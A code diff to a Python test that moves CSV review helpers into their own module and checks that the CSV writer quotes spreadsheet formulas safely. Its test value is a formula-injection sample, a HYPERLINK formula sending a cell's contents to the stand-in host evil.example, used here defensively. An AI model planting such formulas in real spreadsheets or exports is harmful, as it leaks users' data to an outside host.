@@ -203,11 +203,8 @@ def test_log_warnings_are_escaped(tmp_path: Path) -> None:
 
 
 def test_review_csv_quotes_formulas_and_reads_them_back(tmp_path: Path) -> None:
-    from metaeval.protocols.buildfind.labels import (
-        REVIEW_COLUMNS,
-        read_review_csv,
-        write_review_csv,
-    )
+    from metaeval.protocols.buildfind.labels import REVIEW_COLUMNS
+    from metaeval.protocols.buildfind.review_csv import read_review_csv, write_review_csv
 
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     row = {c: "" for c in REVIEW_COLUMNS} | {
